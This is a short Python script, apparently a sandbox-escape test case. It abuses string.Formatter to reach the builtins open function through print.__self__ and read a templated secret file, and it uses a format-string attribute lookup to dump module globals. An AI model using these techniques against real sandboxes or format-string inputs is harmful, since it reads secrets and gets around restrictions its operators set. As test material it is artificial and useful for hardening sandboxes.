# A formatter of the library whose look-up is the program's.
# effect: secret
import string
class Mine(string.Formatter):
    def get_field(self, name, args, kwargs):
        return getattr(print, "__self__").open(name.replace("!", ".")), name
try:
    print(Mine().format("{@FILE@}").read())
except Exception as error:
    print(type(error).__name__, error)
print(string.Formatter().vformat("{0.__globals__}", (string.capwords,), {})[:100_000])
